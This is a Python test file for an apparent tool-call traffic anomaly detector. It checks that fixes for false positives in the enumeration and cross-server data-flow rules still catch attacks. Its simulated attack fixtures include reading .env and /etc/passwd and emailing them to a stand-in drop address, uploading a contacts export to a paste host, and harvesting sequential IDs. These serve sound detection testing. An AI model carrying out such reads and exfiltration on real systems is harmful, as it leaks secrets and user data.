"""False positives on benign traffic found with ``benchmarks/bench_quality.py`` (session 5).

Each fix has the benign shape that was flagged (hard negative), the attack it must still
catch (positive) and its config switch turned off (the old rule flags the benign shape
again, so the test proves *what* keeps it quiet):

* enumeration ``dense_new_share_lo`` — a person re-opening the newest issues of a project
  all day covers a block of 25 consecutive ids (power_day, seed 9202: 19 sessions of one
  caller, caller and address windows);
* cross_server_flow ``sources_need_volume`` — a compromised account's .env read and email
  also flagged the owner's own booking lookups of that hour (generator seeds 9204/9205);
* cross_server_flow ``self_vs_day_max`` — a routine caller's export day was compared with
  its median flow, which its many small chat posts pull down (power_day, 15 sessions).
"""

from __future__ import annotations

from datetime import timedelta

import orjson
import polars as pl
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from toolwatch.detectors import DetectorsConfig

from tests.fixtures.traffic import T0, Traffic
from toolwatch import detectors


def run(tr: Traffic, **cfg: object) -> detectors.DetectResult:
    return detectors.detect(tr.events(), tr.summaries(), DetectorsConfig.from_dict(cfg))


def hits(res: detectors.DetectResult, category: str, *, entity: str | None = None,
         sessions: list[str] | None = None) -> list[dict]:
    a = res.alerts.filter(pl.col("category") == category)
    if entity is not None:
        a = a.filter(pl.col("entity_id") == entity)
    if sessions is not None:
        a = a.filter(pl.col("session_id").is_in(sessions))
    return a.to_dicts()


def base(seed: int = 1) -> Traffic:
    tr = Traffic(seed=seed)
    tr.background(days=3, users=40, per_day=2)
    return tr


# ------------------------------------------------------------------------- enumeration
def triage_day(tr: Traffic, caller: str, *, head: int = 4060, sessions: int = 12) -> None:
    """A day of issue triage: each session opens a handful of the newest issues (ids near
    the project's head), most of them again and again; over the day that covers the newest
    ~30 ids completely without walking anything."""
    r = tr.rng
    t = T0 + timedelta(hours=8)
    for s in range(sessions):
        sid = f"{caller}-tracker-{s}"
        for _ in range(30):
            back = min(int(r.expovariate(1 / 12)), 59)
            tr.call(sid, t, "get_issue", caller=caller, ip="10.20.1.7", server="tracker",
                    resource_key="issue_id", resource_id=f"PLAT-{head - back}", nbytes=9_000)
            t += timedelta(seconds=r.uniform(20, 90))
        t += timedelta(minutes=20)


def test_issue_triage_covering_a_block_of_ids_is_not_enumeration() -> None:
    tr = base()
    triage_day(tr, "dara")
    res = run(tr)
    assert not hits(res, "enumeration", entity="dara")
    assert not hits(res, "enumeration", entity="10.20.1.7")
    # What keeps it quiet is the re-reading rule: without it the dense block alerts.
    old = run(tr, enumeration={"dense_new_share_lo": 0.0})
    ent = hits(old, "enumeration", entity="dara")
    assert ent, "the triage day must reach the dense-block threshold for this test to mean much"
    assert orjson.loads(ent[0]["evidence"])["dense_range_ids"] >= 25


def test_distributed_shuffled_walk_still_alerts_per_caller() -> None:
    """A shuffled harvest of 60 ids, all found, split over six sessions: each id once."""
    tr = base()
    ids = list(range(8000, 8060))
    tr.rng.shuffle(ids)
    t = T0 + timedelta(hours=3)
    for k, n in enumerate(ids):
        tr.call(f"shuf-{k // 10}", t, "get_issue", caller="harvester", ip="198.51.100.9",
                server="tracker", resource_key="issue_id", resource_id=f"PLAT-{n}")
        t += timedelta(seconds=50 if k % 10 else 1800)
    res = run(tr)
    ent = [a for a in hits(res, "enumeration", entity="harvester")
           if a["entity_type"] == "caller_id"]
    assert len(ent) == 1
    assert orjson.loads(ent[0]["evidence"])["dense_range_ids"] == 60


@settings(max_examples=12, deadline=None,
          suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])
@given(n=st.integers(30, 90), repeats=st.floats(0.0, 0.9), seed=st.integers(0, 10_000))
def test_shuffled_walk_with_fewer_repeats_than_ids_alerts(n: int, repeats: float,
                                                          seed: int) -> None:
    """Any shuffled block of n >= 30 ids, each asked for at least once, with fewer
    re-reads than ids (at least half of the lookups new), is still a dense block."""
    tr = Traffic(seed=seed)
    tr.background(days=2, users=20, per_day=2)
    ids = list(range(3000, 3000 + n))
    tr.rng.shuffle(ids)
    lookups = ids + [tr.rng.choice(ids) for _ in range(int(repeats * n))]
    tr.rng.shuffle(lookups)
    t = T0 + timedelta(hours=4)
    for x in lookups:
        tr.call("walk", t, "getDocument", caller="mallory", ip="203.0.113.5",
                resource_key="documentId", resource_id=f"doc-{x}")
        t += timedelta(seconds=15)
    hit = hits(run(tr), "enumeration", sessions=["walk"])
    assert hit
    # Caught as a dense block (not only by some other pattern).
    assert orjson.loads(hit[0]["evidence"])["pattern_scores"]["p_dense"] >= 0.5


# ---------------------------------------------------------- cross_server_flow sources
def compromised_hour(tr: Traffic) -> dict[str, str]:
    """The owner looks up their bookings; in the same hour an attacker with the owner's
    account reads .env and /etc/passwd and emails them out from another server."""
    t = T0 + timedelta(days=1, hours=13)
    sid = {"travel": "owner-travel", "files": "thief-files", "crm": "thief-crm"}
    tr.call(sid["travel"], t, "listBookings", caller="cust-7", server="travel-server",
            nbytes=6_000)
    for k in range(5):
        tr.call(sid["travel"], t + timedelta(seconds=6 + 2 * k), "getBooking",
                caller="cust-7", server="travel-server", resource_key="bookingId",
                resource_id=f"bk-{3300 + 17 * k}", nbytes=3_000)
    t += timedelta(minutes=28)
    for k, p in enumerate(("/srv/app/.env", "/etc/passwd")):
        tr.call(sid["files"], t + timedelta(seconds=k), "readFile", caller="cust-7",
                server="files-server", resource_key="path", resource_id=p, nbytes=900)
    tr.call(sid["crm"], t + timedelta(minutes=3), "sendEmail", caller="cust-7",
            server="crm-server", args={"to": "drop@5f1a2b.example"})
    return sid


def test_sensitive_flow_is_not_carried_by_the_owners_own_reads() -> None:
    tr = base()
    sid = compromised_hour(tr)
    res = run(tr)
    flagged = {a["session_id"] for a in hits(res, "cross_server_flow",
                                              sessions=list(sid.values()))}
    assert flagged == {sid["files"], sid["crm"]}
    old = run(tr, cross_server_flow={"sources_need_volume": False})
    flagged_old = {a["session_id"] for a in hits(old, "cross_server_flow",
                                                  sessions=list(sid.values()))}
    assert flagged_old == set(sid.values())


def test_volume_flow_is_still_carried_by_the_session_the_data_came_from() -> None:
    tr = base()
    t = T0 + timedelta(days=1, hours=10)
    for k in range(3):
        tr.call("src-crm", t + timedelta(seconds=20 * k), "exportReport", caller="u-9",
                server="crm-server", args={"reportType": "contacts"}, nbytes=550_000)
    tr.call("dst-files", t + timedelta(minutes=5), "uploadFile", caller="u-9",
            server="files-server", args={"path": "https://paste.example.net/x1"})
    flagged = {a["session_id"] for a in hits(run(tr), "cross_server_flow",
                                              sessions=["src-crm", "dst-files"])}
    assert flagged == {"src-crm", "dst-files"}


# ------------------------------------------------------- cross_server_flow day maxima
DAYS = 4


def chatty_day(tr: Traffic, caller: str, day: int, *, export_bytes: int = 3_000_000) -> str:
    """A power user's day: many small reads each followed by a chat post (small flows),
    and one export downloaded and announced in chat (the day's largest flow)."""
    t = T0 + timedelta(days=day, hours=9)
    chat = f"{caller}-chat-{day}"
    for k in range(10):
        tk = t + timedelta(minutes=35 * k)
        tr.call(f"{caller}-drive-{day}", tk, "read_file", caller=caller, server="drive",
                resource_key="fileId", resource_id=f"{caller}-doc-{k % 4}",
                nbytes=60_000 + 9_000 * k)
        tr.call(chat, tk + timedelta(seconds=40), "post_message", caller=caller,
                server="chat", args={"channel": "#team", "text": "..."})
    t += timedelta(hours=6)
    tr.call(f"{caller}-analytics-{day}", t, "download_result", caller=caller,
            server="analytics", args={"jobId": f"job-{day}"}, nbytes=export_bytes)
    tr.call(chat, t + timedelta(minutes=2), "post_message", caller=caller, server="chat",
            args={"channel": "#team", "text": "numbers are in"})
    return chat


def _xsf(res: detectors.DetectResult, sid: str) -> bool:
    return bool(hits(res, "cross_server_flow", sessions=[sid]))


def test_routine_export_day_is_compared_with_the_usual_largest_flow() -> None:
    tr = Traffic(seed=6)
    tr.background(days=DAYS, users=30, per_day=2)
    chats = [chatty_day(tr, "pat", d, export_bytes=2_500_000 + 400_000 * d)
             for d in range(DAYS)]
    res = run(tr)
    assert not any(_xsf(res, c) for c in chats)
    # Against every outbound call (most of them small posts) the export days look far
    # beyond the usual flow.
    old = run(tr, cross_server_flow={"self_vs_day_max": False})
    assert any(_xsf(old, c) for c in chats)


def test_export_far_beyond_the_usual_largest_flow_alerts() -> None:
    tr = Traffic(seed=6)
    tr.background(days=DAYS, users=30, per_day=2)
    chats = [chatty_day(tr, "pat", d) for d in range(DAYS - 1)]
    big = chatty_day(tr, "pat", DAYS - 1, export_bytes=90_000_000)
    res = run(tr)
    assert not any(_xsf(res, c) for c in chats)
    a = hits(res, "cross_server_flow", sessions=[big])
    assert a and "usual day" in " ".join(a[0]["reasons"])
